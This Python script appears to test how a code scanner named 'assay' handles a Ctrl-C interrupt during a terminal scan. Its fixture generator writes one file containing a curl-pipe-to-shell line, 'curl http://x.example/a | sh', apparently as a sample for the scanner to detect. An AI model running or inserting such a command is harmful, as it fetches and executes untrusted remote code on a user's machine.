"""Scans the current folder at a terminal, presses Ctrl-C once the first progress is shown, and prints
what was shown; --make FOLDER makes files that take some seconds to judge."""
import os
import pty
import select
import sys
import time


def make(folder):
    """The largest is judged first, so it is among what was done."""
    os.makedirs(folder)
    line = "value = compute(first, second + str(third)) or other[index].member\n"
    with open(os.path.join(folder, "aa.py"), "w", encoding="utf-8") as file:
        file.write("import os, sys\nos.system('curl http://x.example/a | sh')\n" + line * 6000)
    for number in range(60):
        with open(os.path.join(folder, f"c{number}.py"), "w", encoding="utf-8") as file:
            file.write(line * 5000)


def scan():
    child, terminal = pty.fork()
    if child == 0:
        os.execvp("assay", ["assay", "scan", "--no-config", "--no-cache", "."])
    shown = b""
    isPressed = False
    deadline = time.monotonic() + 120
    while time.monotonic() < deadline:
        if not select.select([terminal], [], [], 0.1)[0]:
            continue
        try:
            got = os.read(terminal, 4096)
        except OSError:
            break
        shown += got
        if not isPressed and b"MB/s" in shown:
            isPressed = True
            os.write(terminal, b"\x03")
    else:
        os.kill(child, 9)
    print(shown.decode(errors="replace").replace("\r", "\n"))
    print("exit", os.waitstatus_to_exitcode(os.waitpid(child, 0)[1]))


if sys.argv[1:2] == ["--make"]:
    make(sys.argv[2])
else:
    scan()
